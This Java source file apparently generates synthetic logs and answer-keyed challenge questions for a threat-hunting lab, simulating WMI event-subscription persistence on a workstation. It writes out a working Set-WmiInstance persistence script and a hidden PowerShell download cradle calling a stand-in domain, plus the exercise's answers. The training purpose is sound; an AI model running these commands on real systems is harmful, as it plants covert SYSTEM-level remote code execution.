package io.helklab.samples.generator.scenario;

import io.helklab.samples.AttackTechnique;
import io.helklab.samples.RecordFormat;
import io.helklab.samples.generator.HelkValues;
import io.helklab.samples.generator.domain.Account;
import io.helklab.samples.generator.domain.ImageCatalog;
import io.helklab.samples.generator.domain.InternetDirectory;
import io.helklab.samples.generator.domain.SimulatedProcess;
import io.helklab.samples.generator.event.LogChannel;
import io.helklab.samples.generator.simulation.HostSimulation;
import io.helklab.samples.generator.simulation.UserDesktop;

import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalTime;
import java.util.List;
import java.util.Map;

/**
 * An elevated PowerShell on WKS04 registers a permanent WMI event subscription whose command-line
 * consumer fires every day at 14:30 and runs a PowerShell cradle as SYSTEM from scrcons.exe.
 */
public final class WmiEventSubscription extends AttackScenario {

    private static final String FILTER = "syshealthfilter";
    private static final String CONSUMER = "syshealthconsumer";
    private static final String CALLBACK_DOMAIN = "telemetry.win-health.example.com";
    /** Lower-case as the attacker typed it. */
    private static final String CONSUMER_COMMAND = "powershell.exe -nop -w hidden -c \"iex(new-object net.webclient).downloadstring('https://"
            + CALLBACK_DOMAIN + "/h')\"";
    private static final String QUERY = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime' "
            + "AND TargetInstance.Hour = 14 AND TargetInstance.Minute = 30 GROUP WITHIN 60";

    public WmiEventSubscription() {
        super("wmi-event-subscription", "WMI event subscription persistence",
                List.of(new AttackTechnique("T1546.003", "Event Triggered Execution: Windows Management Instrumentation Event Subscription"),
                        new AttackTechnique("T1059.001", "Command and Scripting Interpreter: PowerShell")),
                RecordFormat.FLAT_EXPORT, LocalDate.of(2026, 10, 8), List.of("DC01", "SRV01", "WKS03", "WKS04"),
                "On WKS04, dokafor (a local administrator) runs an elevated PowerShell that creates an __EventFilter, a "
                        + "CommandLineEventConsumer and their binding in root\\subscription. The filter fires daily at 14:30; the "
                        + "consumer runs a hidden PowerShell download cradle. At 14:30 WMI's scripting host scrcons.exe starts that "
                        + "PowerShell as SYSTEM and it calls out. Sysmon records the three WMI objects (19, 20, 21), WMI-Activity "
                        + "records the binding (5861). This dataset is a flat event-log export, not Winlogbeat.");
    }

    @Override
    public void perform(ScenarioContext context) {
        HostSimulation workstation = context.machine("WKS04");
        Instant start = context.at(LocalTime.of(9, 52, 10));
        UserDesktop desktop = workstation.desktopAt(start);
        Account user = desktop.session().account();
        String script = "$f=Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='" + FILTER
                + "';EventNamespace='root\\cimv2';QueryLanguage='WQL';Query=\\\"" + QUERY + "\\\"};"
                + "$c=Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='" + CONSUMER
                + "';CommandLineTemplate='" + CONSUMER_COMMAND.replace("'", "''") + "'};"
                + "Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$f;Consumer=$c}";
        SimulatedProcess powershell = workstation.start(start, desktop.explorer(), AttackTools.POWERSHELL,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -ExecutionPolicy Bypass -Command \"" + script + "\"",
                desktop.session(), "High", "C:\\Windows\\system32\\");
        workstation.loadModules(start.plusMillis(250), powershell, ImageCatalog.POWERSHELL_RUNTIME_MODULES);
        workstation.loadModules(start.plusSeconds(2), powershell, "C:\\Windows\\System32\\wbem\\wmiutils.dll");
        Instant created = start.plusSeconds(3);
        workstation.sysmon().wmiFilter(created, user, "root\\cimv2", FILTER, QUERY);
        workstation.sysmon().wmiConsumer(created.plusMillis(180), user, CONSUMER, CONSUMER_COMMAND);
        String consumerPath = "CommandLineEventConsumer.Name=\\\"" + CONSUMER + "\\\"";
        String filterPath = "__EventFilter.Name=\\\"" + FILTER + "\\\"";
        workstation.sysmon().wmiBinding(created.plusMillis(340), user, consumerPath, filterPath);
        workstation.wmiActivity().permanentConsumerBound(created.plusMillis(400), workstation.service("svchost:Winmgmt").processId(),
                FILTER, CONSUMER, QUERY, CONSUMER_COMMAND);
        workstation.terminate(created.plusSeconds(2), powershell);

        Instant fired = context.at(LocalTime.of(14, 30, 41));
        SimulatedProcess scrcons = workstation.start(fired, workstation.service("svchost:DcomLaunch"),
                "C:\\Windows\\System32\\wbem\\scrcons.exe", "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding",
                workstation.systemSession(), "System", "C:\\Windows\\system32\\");
        SimulatedProcess payload = workstation.start(fired.plusSeconds(1), scrcons, AttackTools.POWERSHELL, CONSUMER_COMMAND);
        workstation.loadModules(fired.plusSeconds(1), payload, ImageCatalog.POWERSHELL_RUNTIME_MODULES);
        workstation.network().lookupAndConnect(fired.plusSeconds(3), payload, CALLBACK_DOMAIN, 443);
        workstation.terminate(fired.plusSeconds(30), payload);
        workstation.terminate(fired.plusSeconds(95), scrcons);

        context.answers()
                .processCreated("The elevated PowerShell that registered the subscription", powershell)
                .fact("The event filter (Sysmon 19)", LogChannel.SYSMON, Map.of("event_id", 19, "host_name",
                        HelkValues.host(workstation.host().fullyQualifiedName()), "user_name", HelkValues.lower(user.name()),
                        "wmi_filter_name", "\"" + FILTER + "\""), 1)
                .fact("The command-line consumer (Sysmon 20)", LogChannel.SYSMON, Map.of("event_id", 20, "host_name",
                        HelkValues.host(workstation.host().fullyQualifiedName()), "wmi_consumer_name", "\"" + CONSUMER + "\"",
                        "wmi_consumer_destination", "\"" + CONSUMER_COMMAND + "\""), 1)
                .fact("The filter-to-consumer binding (Sysmon 21)", LogChannel.SYSMON, Map.of("event_id", 21, "host_name",
                        HelkValues.host(workstation.host().fullyQualifiedName()), "user_name", HelkValues.lower(user.name())), 1)
                .fact("WMI-Activity recording the permanent consumer (5861)", LogChannel.WMI_ACTIVITY, Map.of("event_id", 5861,
                        "host_name", HelkValues.host(workstation.host().fullyQualifiedName())), 1)
                .processCreated("The consumer firing: scrcons.exe starts the PowerShell cradle as SYSTEM", payload)
                .sysmonEvent("The fired PowerShell calling out", 3, payload, Map.of("dst_ip_addr", InternetDirectory.addressOf(CALLBACK_DOMAIN)), 1)
                .challenge("filter-name", "What is the name of the malicious WMI event filter?", FILTER, "\"" + FILTER + "\"")
                .challenge("consumer-command", "Which command does the WMI consumer run?", CONSUMER_COMMAND, "\"" + CONSUMER_COMMAND + "\"")
                .processNameChallenge("consumer-host", "Which process started the PowerShell when the subscription fired?", scrcons)
                .challenge("trigger-time", "At what time of day does the subscription fire?", "14:30", "14:30 utc", "2:30 pm")
                .challenge("creator", "Which account created the subscription?", "dokafor", "helk\\dokafor");
    }
}
